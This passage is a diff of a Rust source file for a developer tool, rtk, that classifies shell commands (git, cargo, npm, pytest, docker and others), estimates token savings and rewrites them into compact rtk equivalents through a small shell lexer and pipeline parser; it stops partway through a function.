@@ -1,5 +1,11 @@
 use lazy_static::lazy_static;
 use regex::{Regex, RegexSet};
+use std::ops::Range;
+
+const PASSTHROUGH: super::report::RtkStatus = super::report::RtkStatus::Passthrough;
+
+/// Estimated savings for commands handled by a `[[filters.custom]]` entry
+const CUSTOM_FILTER_SAVINGS_PCT: f64 = 60.0;
 
 /// A rule mapping a shell command pattern to its RTK equivalent.
 struct RtkRule {
@@ -8,6 +14,8 @@ struct RtkRule {
     savings_pct: f64,
     subcmd_savings: &'static [(&'static str, f64)],
     subcmd_status: &'static [(&'static str, super::report::RtkStatus)],
+    /// Leading words replaced when rewriting (raw prefix, rtk replacement), first match wins
+    rewrite_prefixes: &'static [(&'static str, &'static str)],
 }
 
 /// Result of classifying a command.
@@ -50,26 +58,33 @@ pub fn category_avg_tokens(category: &str, subcmd: &str) -> usize {
 // Patterns ordered to match RTK_RULES indices exactly.
 const PATTERNS: &[&str] = &[
     r"^git\s+(status|log|diff|show|add|commit|push|pull|branch|fetch|stash|worktree)",
-    r"^gh\s+(pr|issue|run|repo|api)",
-    r"^cargo\s+(build|test|clippy|check|fmt)",
+    r"^gh\s+(pr|issue|run|repo|api|release)",
+    r"^cargo\s+(build|test|clippy|check|fmt|install)",
     r"^pnpm\s+(list|ls|outdated|install)",
-    r"^npm\s+(run|exec)",
+    r"^npm\s+(run|test)",
     r"^npx\s+",
     r"^(cat|head|tail)\s+",
     r"^(rg|grep)\s+",
     r"^ls(\s|$)",
     r"^find\s+",
-    r"^(npx\s+|pnpm\s+)?tsc(\s|$)",
+    r"^(npx\s+|pnpm\s+)?(vue-)?tsc(\s|$)",
     r"^(npx\s+|pnpm\s+)?(eslint|biome|lint)(\s|$)",
     r"^(npx\s+|pnpm\s+)?prettier",
     r"^(npx\s+|pnpm\s+)?next\s+build",
     r"^(pnpm\s+|npx\s+)?(vitest|jest|test)(\s|$)",
     r"^(npx\s+|pnpm\s+)?playwright",
     r"^(npx\s+|pnpm\s+)?prisma",
-    r"^docker\s+(ps|images|logs)",
-    r"^kubectl\s+(get|logs)",
+    r"^docker\s+(ps|images|logs|compose|run|build|exec)",
+    r"^kubectl\s+(get|logs|describe|apply)",
     r"^curl\s+",
     r"^wget\s+",
+    r"^tree(\s|$)",
+    r"^diff\s+",
+    r"^(python3?\s+-m\s+)?pytest(\s|$)",
+    r"^ruff\s+(check|format)",
+    r"^(?:uv\s+)?pip\s+(list|outdated|install|uninstall|show)",
+    r"^go\s+(test|build|vet)",
+    r"^golangci-lint(\s|$)",
 ];
 
 const RULES: &[RtkRule] = &[
@@ -84,20 +99,23 @@ const RULES: &[RtkRule] = &[
             ("commit", 59.0),
         ],
         subcmd_status: &[],
+        rewrite_prefixes: &[("git", "rtk git")],
     },
     RtkRule {
         rtk_cmd: "rtk gh",
         category: "GitHub",
         savings_pct: 82.0,
         subcmd_savings: &[("pr", 87.0), ("run", 82.0), ("issue", 80.0)],
-        subcmd_status: &[],
+        subcmd_status: &[("release", PASSTHROUGH)],
+        rewrite_prefixes: &[("gh", "rtk gh")],
     },
     RtkRule {
         rtk_cmd: "rtk cargo",
         category: "Cargo",
         savings_pct: 80.0,
         subcmd_savings: &[("test", 90.0), ("check", 80.0)],
-        subcmd_status: &[("fmt", super::report::RtkStatus::Passthrough)],
+        subcmd_status: &[("fmt", PASSTHROUGH)],
+        rewrite_prefixes: &[("cargo", "rtk cargo")],
     },
     RtkRule {
         rtk_cmd: "rtk pnpm",
@@ -105,6 +123,7 @@ const RULES: &[RtkRule] = &[
         savings_pct: 80.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[("pnpm", "rtk pnpm")],
     },
     RtkRule {
         rtk_cmd: "rtk npm",
@@ -112,6 +131,8 @@ const RULES: &[RtkRule] = &[
         savings_pct: 70.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        // `rtk npm <script>` runs `npm run <script>`
+        rewrite_prefixes: &[("npm run", "rtk npm"), ("npm test", "rtk npm test")],
     },
     RtkRule {
         rtk_cmd: "rtk npx",
@@ -119,6 +140,7 @@ const RULES: &[RtkRule] = &[
         savings_pct: 70.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[("npx", "rtk npx")],
     },
     RtkRule {
         rtk_cmd: "rtk read",
@@ -126,6 +148,8 @@ const RULES: &[RtkRule] = &[
         savings_pct: 60.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        // `head -N file` is rewritten separately (see `rewrite_head`)
+        rewrite_prefixes: &[("cat", "rtk read")],
     },
     RtkRule {
         rtk_cmd: "rtk grep",
@@ -133,6 +157,7 @@ const RULES: &[RtkRule] = &[
         savings_pct: 75.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[("rg", "rtk grep"), ("grep", "rtk grep")],
     },
     RtkRule {
         rtk_cmd: "rtk ls",
@@ -140,6 +165,7 @@ const RULES: &[RtkRule] = &[
         savings_pct: 65.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[("ls", "rtk ls")],
     },
     RtkRule {
         rtk_cmd: "rtk find",
@@ -147,6 +173,7 @@ const RULES: &[RtkRule] = &[
         savings_pct: 70.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[("find", "rtk find")],
     },
     RtkRule {
         rtk_cmd: "rtk tsc",
@@ -154,6 +181,13 @@ const RULES: &[RtkRule] = &[
         savings_pct: 83.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[
+            ("npx vue-tsc", "rtk tsc"),
+            ("vue-tsc", "rtk tsc"),
+            ("npx tsc", "rtk tsc"),
+            ("pnpm tsc", "rtk tsc"),
+            ("tsc", "rtk tsc"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk lint",
@@ -161,6 +195,15 @@ const RULES: &[RtkRule] = &[
         savings_pct: 84.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[
+            ("npx eslint", "rtk lint"),
+            ("pnpm eslint", "rtk lint"),
+            ("eslint", "rtk lint"),
+            ("npx biome", "rtk lint biome"),
+            ("pnpm biome", "rtk lint biome"),
+            ("biome", "rtk lint biome"),
+            ("pnpm lint", "rtk lint"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk prettier",
@@ -168,6 +211,11 @@ const RULES: &[RtkRule] = &[
         savings_pct: 70.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[
+            ("npx prettier", "rtk prettier"),
+            ("pnpm prettier", "rtk prettier"),
+            ("prettier", "rtk prettier"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk next",
@@ -175,6 +223,11 @@ const RULES: &[RtkRule] = &[
         savings_pct: 87.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[
+            ("npx next build", "rtk next"),
+            ("pnpm next build", "rtk next"),
+            ("next build", "rtk next"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk vitest",
@@ -182,6 +235,16 @@ const RULES: &[RtkRule] = &[
         savings_pct: 99.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        // jest has no dedicated filter: counted for discover, never rewritten
+        rewrite_prefixes: &[
+            ("pnpm vitest run", "rtk vitest run"),
+            ("npx vitest run", "rtk vitest run"),
+            ("vitest run", "rtk vitest run"),
+            ("pnpm vitest", "rtk vitest run"),
+            ("npx vitest", "rtk vitest run"),
+            ("vitest", "rtk vitest run"),
+            ("pnpm test", "rtk vitest run"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk playwright",
@@ -189,6 +252,11 @@ const RULES: &[RtkRule] = &[
         savings_pct: 94.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[
+            ("npx playwright", "rtk playwright"),
+            ("pnpm playwright", "rtk playwright"),
+            ("playwright", "rtk playwright"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk prisma",
@@ -196,20 +264,32 @@ const RULES: &[RtkRule] = &[
         savings_pct: 88.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        // `rtk prisma` only knows generate/migrate/db push; `rtk npx` passes the rest through
+        rewrite_prefixes: &[
+            ("npx prisma", "rtk npx prisma"),
+            ("prisma", "rtk npx prisma"),
+        ],
     },
     RtkRule {
         rtk_cmd: "rtk docker",
         category: "Infra",
         savings_pct: 85.0,
         subcmd_savings: &[],
-        subcmd_status: &[],
+        subcmd_status: &[
+            ("compose", PASSTHROUGH),
+            ("run", PASSTHROUGH),
+            ("build", PASSTHROUGH),
+            ("exec", PASSTHROUGH),
+        ],
+        rewrite_prefixes: &[("docker", "rtk docker")],
     },
     RtkRule {
         rtk_cmd: "rtk kubectl",
         category: "Infra",
         savings_pct: 85.0,
         subcmd_savings: &[],
-        subcmd_status: &[],
+        subcmd_status: &[("describe", PASSTHROUGH), ("apply", PASSTHROUGH)],
+        rewrite_prefixes: &[("kubectl", "rtk kubectl")],
     },
     RtkRule {
         rtk_cmd: "rtk curl",
@@ -217,6 +297,7 @@ const RULES: &[RtkRule] = &[
         savings_pct: 70.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        rewrite_prefixes: &[("curl", "rtk curl")],
     },
     RtkRule {
         rtk_cmd: "rtk wget",
@@ -224,6 +305,72 @@ const RULES: &[RtkRule] = &[
         savings_pct: 65.0,
         subcmd_savings: &[],
         subcmd_status: &[],
+        // `rtk wget` takes the URL first and reuses -O, so raw wget lines don't map 1:1
+        rewrite_prefixes: &[],
+    },
+    RtkRule {
+        rtk_cmd: "rtk tree",
+        category: "Files",
+        savings_pct: 60.0,
+        subcmd_savings: &[],
+        subcmd_status: &[],
+        rewrite_prefixes: &[("tree", "rtk tree")],
+    },
+    RtkRule {
+        rtk_cmd: "rtk diff",
+        category: "Files",
+        savings_pct: 60.0,
+        subcmd_savings: &[],
+        subcmd_status: &[],
+        rewrite_prefixes: &[("diff", "rtk diff")],
+    },
+    RtkRule {
+        rtk_cmd: "rtk pytest",
+        category: "Tests",
+        savings_pct: 90.0,
+        subcmd_savings: &[],
+        subcmd_status: &[],
+        rewrite_prefixes: &[
+            ("python -m pytest", "rtk pytest"),
+            ("python3 -m pytest", "rtk pytest"),
+            ("pytest", "rtk pytest"),
+        ],
+    },
+    RtkRule {
+        rtk_cmd: "rtk ruff",
+        category: "Build",
+        savings_pct: 80.0,
+        subcmd_savings: &[],
+        subcmd_status: &[],
+        rewrite_prefixes: &[("ruff", "rtk ruff")],
+    },
+    RtkRule {
+        rtk_cmd: "rtk pip",
+        category: "PackageManager",
+        savings_pct: 75.0,
+        subcmd_savings: &[],
+        subcmd_status: &[
+            ("install", PASSTHROUGH),
+            ("uninstall", PASSTHROUGH),
+            ("show", PASSTHROUGH),
+        ],
+        rewrite_prefixes: &[("uv pip", "rtk pip"), ("pip", "rtk pip")],
+    },
+    RtkRule {
+        rtk_cmd: "rtk go",
+        category: "Build",
+        savings_pct: 85.0,
+        subcmd_savings: &[("test", 90.0)],
+        subcmd_status: &[],
+        rewrite_prefixes: &[("go", "rtk go")],
+    },
+    RtkRule {
+        rtk_cmd: "rtk golangci-lint",
+        category: "Build",
+        savings_pct: 85.0,
+        subcmd_savings: &[],
+        subcmd_status: &[],
+        rewrite_prefixes: &[("golangci-lint", "rtk golangci-lint")],
     },
 ];
 
@@ -290,6 +437,8 @@ lazy_static! {
         .iter()
         .map(|p| Regex::new(p).expect("invalid regex"))
         .collect();
+    /// Redirection word: fd (`2`, `&`), operator, and target when attached (`2>&1`)
+    static ref REDIRECT: Regex = Regex::new(r"^(\d*|&)(>>|>\||>&|>|<>|<&|<)(.*)$").unwrap();
     static ref ENV_PREFIX: Regex =
         Regex::new(r"^(?:sudo\s+|env\s+|[A-Z_][A-Z0-9_]*=[^\s]*\s+)+").unwrap();
 }
@@ -301,16 +450,8 @@ pub fn classify_command(cmd: &str) -> Classification {
         return Classification::Ignored;
     }
 
-    // Check ignored
-    for exact in IGNORED_EXACT {
-        if trimmed == *exact {
-            return Classification::Ignored;
-        }
-    }
-    for prefix in IGNORED_PREFIXES {
-        if trimmed.starts_with(prefix) {
-            return Classification::Ignored;
-        }
+    if is_ignored(trimmed) {
+        return Classification::Ignored;
     }
 
     // Strip env prefixes (sudo, env VAR=val, VAR=val)
@@ -320,9 +461,7 @@ pub fn classify_command(cmd: &str) -> Classification {
         return Classification::Ignored;
     }
 
-    // Fast check with RegexSet — take the last (most specific) match
-    let matches: Vec<usize> = REGEX_SET.matches(cmd_clean).into_iter().collect();
-    if let Some(&idx) = matches.last() {
+    if let Some(idx) = match_rule(cmd_clean) {
         let rule = &RULES[idx];
 
         // Extract subcommand for savings override and status detection
@@ -359,6 +498,13 @@ pub fn classify_command(cmd: &str) -> Classification {
             estimated_savings_pct: savings,
             status,
         }
+    } else if crate::custom_filter::find(cmd_clean).is_some() {
+        Classification::Supported {
+            rtk_equivalent: "rtk run",
+            category: "Custom",
+            estimated_savings_pct: CUSTOM_FILTER_SAVINGS_PCT,
+            status: super::report::RtkStatus::Existing,
+        }
     } else {
         // Extract base command for unsupported
         let base = extract_base_command(cmd_clean);
@@ -372,6 +518,358 @@ pub fn classify_command(cmd: &str) -> Classification {
     }
 }
 
+fn is_ignored(trimmed: &str) -> bool {
+    IGNORED_EXACT.contains(&trimmed) || IGNORED_PREFIXES.iter().any(|p| trimmed.starts_with(p))
+}
+
+/// Fast check with RegexSet — take the last (most specific) match
+fn match_rule(cmd_clean: &str) -> Option<usize> {
+    REGEX_SET.matches(cmd_clean).into_iter().next_back()
+}
+
+/// Rewrite a command line so each of its commands runs through rtk.
+///
+/// Uses the same rules as [`classify_command`]: only commands classified as
+/// supported (filtered or passthrough) are rewritten. Every `&&` / `||` / `;`
+/// segment and subshell is handled on its own; env assignments, quoting and
+/// redirections are kept verbatim. Returns `None` when there is nothing to rewrite.
+pub fn rewrite_command(cmd: &str) -> Option<String> {
+    let trimmed = cmd.trim();
+    // Heredocs: the body may contain anything, leave the whole thing alone
+    if trimmed.is_empty() || trimmed.contains("<<") {
+        return None;
+    }
+
+    let mut rewritten = String::with_capacity(trimmed.len() + 16);
+    let mut copied = 0;
+    let mut changed = false;
+    for pipeline in scan_pipelines(trimmed) {
+        if let Some((range, replacement)) = rewrite_pipeline(trimmed, &pipeline) {
+            rewritten.push_str(&trimmed[copied..range.start]);
+            rewritten.push_str(&replacement);
+            copied = range.end;
+            changed = true;
+        }
+    }
+    if !changed {
+        return None;
+    }
+    rewritten.push_str(&trimmed[copied..]);
+    Some(rewritten)
+}
+
+/// What a test/lint runner command does, see [`classify_runner`]
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Runner {
+    Tests,
+    Lint,
+}
+
+/// rtk commands (as produced by [`rewrite_command`]) that run a test suite or
+/// a linter / type checker
+const RUNNERS: &[(&str, Runner)] = &[
+    ("rtk cargo test", Runner::Tests),
+    ("rtk pytest", Runner::Tests),
+    ("rtk go test", Runner::Tests),
+    ("rtk vitest run", Runner::Tests),
+    ("rtk playwright test", Runner::Tests),
+    ("rtk cargo clippy", Runner::Lint),
+    ("rtk lint", Runner::Lint),
+    ("rtk tsc", Runner::Lint),
+    ("rtk ruff check", Runner::Lint),
+    ("rtk go vet", Runner::Lint),
+    ("rtk golangci-lint run", Runner::Lint),
+];
+
+/// Whether `cmd` is a single test runner or linter invocation that rtk has a
+/// filter for. Anything else (scripts, compound commands, env prefixes) is `None`.
+pub fn classify_runner(cmd: &str) -> Option<Runner> {
+    let pipelines = scan_pipelines(cmd.trim());
+    if pipelines.len() != 1 || pipelines[0].len() != 1 {
+        return None;
+    }
+    let rewritten = rewrite_command(cmd)?;
+    RUNNERS
+        .iter()
+        .find(|(head, _)| {
+            rewritten
+                .strip_prefix(head)
+                .is_some_and(|rest| rest.is_empty() || rest.starts_with(' '))
+        })
+        .map(|(_, runner)| *runner)
+}
+
+/// Rewrite the producer of a pipeline, folding a trailing `head`/`tail`/`grep` when rtk
+/// has an equivalent limit. Returns the byte range to replace and its replacement.
+fn rewrite_pipeline(line: &str, stages: &[Range<usize>]) -> Option<(Range<usize>, String)> {
+    let first = stages.first()?.clone();
+    let rewritten = rewrite_stage(&line[first.clone()])?;
+    if stages.len() == 1 {
+        return Some((first, rewritten));
+    }
+
+    if stages.len() == 2 {
+        if let Some(folded) = fold_pipe(&rewritten, &line[stages[1].clone()]) {
+            // A producer flag the rtk subcommand doesn't take (`grep -rn ... | head -3`)
+            // would turn a working pipe into a usage error
+            if !parses_as_rtk(&folded) {
+                return None;
+            }
+            return Some((first.start..stages[1].end, folded));
+        }
+    }
+
+    // Output piped into head/tail is still read as-is; any other consumer
+    // (grep -v, wc, awk, xargs...) parses the raw format, so leave it alone
+    if stages[1..].iter().all(|s| is_view_stage(&line[s.clone()])) {
+        Some((first, rewritten))
+    } else {
+        None
+    }
+}
+
+/// Rewrite one pipeline stage: a subshell `( ... )` or a simple command
+fn rewrite_stage(stage: &str) -> Option<String> {
+    match subshell_body(stage) {
+        Some(inner) => {
+            let lead = &inner[..inner.len() - inner.trim_start().len()];
+            let trail = &inner[inner.trim_end().len()..];
+            rewrite_command(inner).map(|r| format!("({}{}{})", lead, r, trail))
+        }
+        None => rewrite_simple(stage),
+    }
+}
+
+/// Rewrite a single command (no chains or pipes)
+fn rewrite_simple(cmd: &str) -> Option<String> {
+    match classify_command(cmd) {
+        Classification::Supported {
+            status: super::report::RtkStatus::Existing | super::report::RtkStatus::Passthrough,
+            ..
+        } => {}
+        _ => return None,
+    }
+
+    let env_len = ENV_PREFIX.find(cmd).map(|m| m.end()).unwrap_or(0);
+    let (env, body) = cmd.split_at(env_len);
+    // sudo resets PATH (secure_path); rtk may not be reachable there
+    if env.contains("sudo") {
+        return None;
+    }
+
+    // `git diff > x.patch`: the compact output would land in the file
+    match command_words(body) {
+        Some((_, false)) => {}
+        _ => return None,
+    }
+
+    let Some(idx) = match_rule(body) else {
+        // Only [[filters.custom]] entries classify without a registry rule
+        return Some(format!("{}rtk run {}", env, body));
+    };
+    if RULES[idx].rtk_cmd == "rtk read" {
+        if let Some(rest) = strip_words(body, "head") {
+            return rewrite_head(rest).map(|r| format!("{}{}", env, r));
+        }
+    }
+
+    let (from, rewritten) = RULES[idx].rewrite_prefixes.iter().find_map(|(from, to)| {
+        strip_words(body, from).map(|rest| (*from, format!("{}{}{}", env, to, rest)))
+    })?;
+    if !parses_as_rtk(&rewritten) {
+        return None;
+    }
+    // grep patterns are BRE, rtk grep's are Rust regex: only fixed strings mean the same
+    if from == "grep" && !rtk_grep_pattern(&rewritten).is_some_and(|p| is_fixed_pattern(&p)) {
+        return None;
+    }
+    Some(rewritten)
+}
+
+/// Fold `producer | consumer` into one rtk command when the limit maps exactly:
+/// - `rtk read FILE` + `head -N` / `tail -N` / `grep PATTERN`
+/// - `rtk grep ...` + `head -N`
+fn fold_pipe(producer: &str, consumer: &str) -> Option<String> {
+    let env_len = ENV_PREFIX.find(producer).map(|m| m.end()).unwrap_or(0);
+    let (env, body) = producer.split_at(env_len);
+    let words: Vec<&str> = consumer.split_whitespace().collect();
+    let limit = match words.as_slice() {
+        [tool @ ("head" | "tail"), args @ ..] => {
+            let lines = if args.is_empty() {
+                Some(10)
+            } else {
+                parse_line_limit(args).and_then(|(n, rest)| rest.is_empty().then_some(n))
+            };
+            lines.map(|n| (*tool, n))
+        }
+        _ => None,
+    };
+
+    if let Some(rest) = strip_words(body, "rtk read") {
+        let file = match rest.split_whitespace().collect::<Vec<_>>().as_slice() {
+            [file] if !file.starts_with('-') => *file,
+            _ => return None,
+        };
+        return match (limit, words.as_slice()) {
+            (Some(("head", n)), _) => Some(format!("{}rtk read {} --max-lines {}", env, file, n)),
+            (Some((_, n)), _) => Some(format!("{}rtk read {} --tail-lines {}", env, file, n)),
+            (None, ["grep", pattern])
+                if !pattern.starts_with('-')
+                    && command_words(pattern)
+                        .is_some_and(|(w, _)| w.len() == 1 && is_fixed_pattern(&w[0])) =>
+            {
+                Some(format!("{}rtk grep {} {}", env, pattern, file))
+            }
+            _ => None,
+        };
+    }
+
+    if let Some(rest) = strip_words(body, "rtk grep") {
+        let has_max = rest
+            .split_whitespace()
+            .any(|w| w == "-m" || w.starts_with("--max"));
+        if let Some(("head", n)) = limit {
+            if !has_max {
+                return Some(format!("{}rtk grep --max {}{}", env, n, rest));
+            }
+        }
+    }
+
+    None
+}
+
+/// `cmd` (after any env assignments) is accepted by rtk's own argument parser
+fn parses_as_rtk(cmd: &str) -> bool {
+    use clap::Parser;
+
+    let env_len = ENV_PREFIX.find(cmd).map(|m| m.end()).unwrap_or(0);
+    match command_words(&cmd[env_len..]) {
+        Some((words, _)) => crate::Cli::try_parse_from(words).is_ok(),
+        None => false,
+    }
+}
+
+/// Pattern of an `rtk grep` command, as rtk's argument parser reads it
+fn rtk_grep_pattern(cmd: &str) -> Option<String> {
+    use clap::Parser;
+
+    let env_len = ENV_PREFIX.find(cmd).map(|m| m.end()).unwrap_or(0);
+    let (words, _) = command_words(&cmd[env_len..])?;
+    match crate::Cli::try_parse_from(words).ok()?.command {
+        crate::Commands::Grep { pattern, .. } => Some(pattern),
+        _ => None,
+    }
+}
+
+/// No regex syntax in either grep's BRE or rtk grep's Rust regex, so both
+/// match the same lines
+fn is_fixed_pattern(pattern: &str) -> bool {
+    !pattern.is_empty() && !pattern.chars().any(|c| r"\.[]*^$+?(){}|".contains(c))
+}
+
+/// Words of a simple command without its redirections (`2>&1`, `< in.txt`),
+/// and whether stdout is redirected (`>`, `>>`, `1>`, `&>`). `None` on
+/// unbalanced quotes.
+fn command_words(cmd: &str) -> Option<(Vec<String>, bool)> {
+    let mut words = Vec::new();
+    let mut stdout_redirected = false;
+    let mut tokens = shell_words(cmd)?.into_iter();
+    while let Some((word, quoted)) = tokens.next() {
+        let Some(caps) = REDIRECT.captures(&word).filter(|_| !quoted) else {
+            words.push(word);
+            continue;
+        };
+        if caps[2].starts_with('>') && matches!(&caps[1], "" | "1" | "&") {
+            stdout_redirected = true;
+        }
+        // `> file`: the target is the next word
+        if caps[3].is_empty() {
+            tokens.next();
+        }
+    }
+    Some((words, stdout_redirected))
+}
+
+/// Split a simple command into words, resolving quotes and backslashes. Each
+/// word says whether any of it was quoted or escaped. `None` on unbalanced quotes.
+fn shell_words(cmd: &str) -> Option<Vec<(String, bool)>> {
+    let mut words = Vec::new();
+    let mut word: Option<(String, bool)> = None;
+    let mut chars = cmd.chars();
+    while let Some(c) = chars.next() {
+        if c.is_whitespace() {
+            words.extend(word.take());
+            continue;
+        }
+        let (text, quoted) = word.get_or_insert_with(|| (String::new(), false));
+        match c {
+            '\'' => loop {
+                match chars.next()? {
+                    '\'' => break,
+                    c => text.push(c),
+                }
+            },
+            '"' => loop {
+                match chars.next()? {
+                    '"' => break,
+                    '\\' => text.push(chars.next()?),
+                    c => text.push(c),
+                }
+            },
+            '\\' => text.push(chars.next()?),
+            c => text.push(c),
+        }
+        if matches!(c, '\'' | '"' | '\\') {
+            *quoted = true;
+        }
+    }
+    words.extend(word);
+    Some(words)
+}
+
+/// `head`/`tail` stage: the agent still reads the output directly
+fn is_view_stage(stage: &str) -> bool {
+    matches!(stage.split_whitespace().next(), Some("head" | "tail"))
+}
+
+/// Strip leading `words` (whitespace-separated) from `cmd`, keeping what follows verbatim
+fn strip_words<'a>(cmd: &'a str, words: &str) -> Option<&'a str> {
+    let mut rest = cmd;
+    for word in words.split_whitespace() {
+        rest = rest.trim_start().strip_prefix(word)?;
+        if !(rest.is_empty() || rest.starts_with(char::is_whitespace)) {
+            return None;
+        }
+    }
+    Some(rest)
+}
+
+/// `head -N file` / `head -n N file` / `head --lines=N file` → `rtk read file --max-lines N`
+fn rewrite_head(rest: &str) -> Option<String> {
+    let args: Vec<&str> = rest.split_whitespace().collect();
+    match parse_line_limit(&args)? {
+        (lines, [file]) if !file.starts_with('-') => {
+            Some(format!("rtk read {} --max-lines {}", file, lines))
+        }
+        _ => None,
+    }
+}
+
+/// Parse a leading `-N` / `-n N` / `-nN` / `--lines=N` (head/tail), returning the rest
+fn parse_line_limit<'a, 'b>(args: &'a [&'b str]) -> Option<(usize, &'a [&'b str])> {
+    let (count, rest) = match args {
+        ["-n", n, rest @ ..] => (*n, rest),
+        [flag, rest @ ..] if flag.starts_with("--lines=") => (&flag[8..], rest),
+        [flag, rest @ ..] if flag.starts_with("-n") => (&flag[2..], rest),
+        [flag, rest @ ..] if flag.starts_with('-') => (&flag[1..], rest),
+        _ => return None,
+    };
+    if count.is_empty() || !count.chars().all(|c| c.is_ascii_digit()) {
+        return None;
+    }
+    Some((count.parse().ok()?, rest))
+}
+
 /// Extract the base command (first word, or first two if it looks like a subcommand pattern).
 fn extract_base_command(cmd: &str) -> &str {
     let parts: Vec<&str> = cmd.splitn(3, char::is_whitespace).collect();
@@ -402,7 +900,8 @@ fn extract_base_command(cmd: &str) -> &str {
 }
 
 /// Split a command chain on `&&`, `||`, `;` outside quotes.
-/// For pipes `|`, only keep the first command.
+/// For pipes `|`, only keep the first command of each pipeline.
+/// Subshells `( ... )` are split recursively.
 /// Lines with `<<` (heredoc) or `$((` are returned whole.
 pub fn split_command_chain(cmd: &str) -> Vec<&str> {
     let trimmed = cmd.trim();
@@ -416,74 +915,118 @@ pub fn split_command_chain(cmd: &str) -> Vec<&str> {
     }
 
     let mut results = Vec::new();
+    for pipeline in scan_pipelines(trimmed) {
+        let first = &trimmed[pipeline[0].clone()];
+        match subshell_body(first) {
+            Some(inner) => results.extend(split_command_chain(inner)),
+            None => results.push(first),
+        }
+    }
+    results
+}
+
+/// Shell quoting state, fed one byte at a time
+#[derive(Default)]
+struct ShellLexer {
+    in_single: bool,
+    in_double: bool,
+    in_backtick: bool,
+    escaped: bool,
+    depth: usize,
+}
+
+impl ShellLexer {
+    /// Advance over `b`. Returns true if `b` is an unquoted byte outside any
+    /// `( ... )` / `$( ... )` group, i.e. one that may be a shell operator.
+    fn step(&mut self, b: u8) -> bool {
+        if self.escaped {
+            self.escaped = false;
+            return false;
+        }
+        match b {
+            b'\\' if !self.in_single => self.escaped = true,
+            b'\'' if !self.in_double => self.in_single = !self.in_single,
+            b'"' if !self.in_single => self.in_double = !self.in_double,
+            b'`' if !self.in_single => self.in_backtick = !self.in_backtick,
+            _ if self.in_single || self.in_double || self.in_backtick => {}
+            b'(' => self.depth += 1,
+            b')' => self.depth = self.depth.saturating_sub(1),
+            _ => return self.depth == 0,
+        }
+        false
+    }
+}
+
+/// Split a shell line into pipelines of commands, as trimmed byte ranges into `line`.
+/// `&&`, `||`, `;`, `&` and newlines end a pipeline; `|` and `|&` end a stage.
+fn scan_pipelines(line: &str) -> Vec<Vec<Range<usize>>> {
+    let bytes = line.as_bytes();
+    let mut lexer = ShellLexer::default();
+    let mut pipelines = Vec::new();
+    let mut stages = Vec::new();
     let mut start = 0;
-    let bytes = trimmed.as_bytes();
-    let len = bytes.len();
     let mut i = 0;
-    let mut in_single = false;
-    let mut in_double = false;
-    let mut pipe_seen = false;
 
-    while i < len {
+    while i < bytes.len() {
         let b = bytes[i];
-        match b {
-            b'\'' if !in_double => {
-                in_single = !in_single;
-                i += 1;
-            }
-            b'"' if !in_single => {
-                in_double = !in_double;
-                i += 1;
-            }
-            b'|' if !in_single && !in_double => {
-                if i + 1 < len && bytes[i + 1] == b'|' {
-                    // ||
-                    let segment = trimmed[start..i].trim();
-                    if !segment.is_empty() {
-                        results.push(segment);
-                    }
-                    i += 2;
-                    start = i;
-                } else {
-                    // pipe: keep only first command
-                    let segment = trimmed[start..i].trim();
-                    if !segment.is_empty() {
-                        results.push(segment);
-                    }
-                    pipe_seen = true;
-                    break;
-                }
-            }
-            b'&' if !in_single && !in_double && i + 1 < len && bytes[i + 1] == b'&' => {
-                let segment = trimmed[start..i].trim();
-                if !segment.is_empty() {
-                    results.push(segment);
-                }
-                i += 2;
-                start = i;
-            }
-            b';' if !in_single && !in_double => {
-                let segment = trimmed[start..i].trim();
-                if !segment.is_empty() {
-                    results.push(segment);
-                }
-                i += 1;
-                start = i;
+        if !lexer.step(b) {
+            i += 1;
+            continue;
+        }
+        let next = bytes.get(i + 1).copied();
+        let (op_len, ends_pipeline) = match (b, next) {
+            (b'&', Some(b'&')) | (b'|', Some(b'|')) => (2, true),
+            (b'|', Some(b'&')) => (2, false),
+            (b'|', _) => (1, false),
+            (b';', _) | (b'\n', _) => (1, true),
+            // `&` inside redirections (2>&1, &>file) is not a separator
+            (b'&', _) if next != Some(b'>') && (i == 0 || !matches!(bytes[i - 1], b'>' | b'<')) => {
+                (1, true)
             }
             _ => {
                 i += 1;
+                continue;
             }
+        };
+
+        push_stage(line, start..i, &mut stages);
+        if ends_pipeline && !stages.is_empty() {
+            pipelines.push(std::mem::take(&mut stages));
         }
+        i += op_len;
+        start = i;
     }
 
-    if !pipe_seen && start < len {
-        let segment = trimmed[start..].trim();
-        if !segment.is_empty() {
-            results.push(segment);
-        }
+    push_stage(line, start..bytes.len(), &mut stages);
+    if !stages.is_empty() {
+        pipelines.push(stages);
     }
+    pipelines
+}
 
-    results
+fn push_stage(line: &str, range: Range<usize>, stages: &mut Vec<Range<usize>>) {
+    let text = &line[range.clone()];
+    let start = range.start + (text.len() - text.trim_start().len());
+    let end = range.start + text.trim_end().len();
+    if start < end {
+        stages.push(start..end);
+    }
+}
+
+/// Body of a `( ... )` subshell, if `cmd` is exactly one
+fn subshell_body(cmd: &str) -> Option<&str> {
+    if !cmd.starts_with('(') || !cmd.ends_with(')') {
+        return None;
+    }
+    let mut lexer = ShellLexer::default();
+    for (i, b) in cmd.bytes().enumerate() {
+        lexer.step(b);
+        if lexer.depth == 0 {
